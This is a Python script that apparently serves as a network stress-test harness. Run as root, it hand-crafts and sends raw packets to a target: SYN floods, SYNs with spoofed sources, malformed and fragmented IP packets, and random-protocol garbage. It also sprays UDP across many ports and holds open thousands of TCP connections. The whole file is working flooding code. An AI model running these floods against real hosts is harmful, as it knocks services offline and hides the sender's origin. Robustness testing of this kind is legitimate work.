"""Sends packets that no program should: flood.py KIND SHARE OWN COUNT, as root. What the system refuses to send is passed
over. Or opens more connections than there should be: flood.py hang|open SHARE PORT COUNT; "hang" waits for nothing and
stays, "open" says how many were connected, one after the other."""
import json
import os
import random
import resource
import socket
import struct
import sys
import time

kind, share, own, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
random.seed(7)

if kind in ("hang", "open"):
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    kept, found = [], {"connected": 0, "refused": 0}
    for _ in range(count):
        sock = socket.socket()
        kept.append(sock)
        sock.settimeout(20)
        if kind == "hang":
            sock.setblocking(False)
            sock.connect_ex((share, int(own)))
            continue
        try:
            sock.connect((share, int(own)))
            found["connected"] += 1
        except ConnectionRefusedError:
            found["refused"] += 1
    print(json.dumps(found), flush=True)
    if kind == "hang":
        time.sleep(600)
    sys.exit()


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(payload, source=own, protocol=6, flags=0, length=None, first=0x45):
    length = 20 + len(payload) if length is None else length
    head = struct.pack("!BBHHHBBH4s4s", first, 0, length & 0xFFFF, random.getrandbits(16), flags, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(share))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def syn(source=own):
    ports = random.randrange(1024, 65536), random.randrange(1, 65536)
    tcp = struct.pack("!HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(share) + struct.pack("!BBH", 0, 6, len(tcp))
    return tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def packets():
    for _ in range(count):
        if kind == "syns":
            yield ip(syn())
        elif kind == "garbage":
            yield ip(os.urandom(random.randrange(0, 400)), protocol=random.choice([1, 6, 17, 41, 132]))
        elif kind == "fragments":
            yield ip(os.urandom(64), protocol=random.choice([6, 17]), flags=random.choice([0x2000, 0x2001, 0x0005]))
        elif kind == "spoofed":
            source = f"10.{random.randrange(256)}.{random.randrange(256)}.9"
            yield ip(syn(source), source=source)
        else:
            yield ip(os.urandom(random.randrange(1, 60)), first=random.choice([0x41, 0x4F, 0x45]), protocol=6)


if kind == "flows":
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(50)]
    for n in range(count):
        try:
            socks[n % 50].sendto(b"hello", (share, 1 + n // 50 * 13 % 65535))
        except OSError:
            pass
else:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for packet in packets():
        try:
            raw.sendto(packet, (share, 0))
        except OSError:
            pass
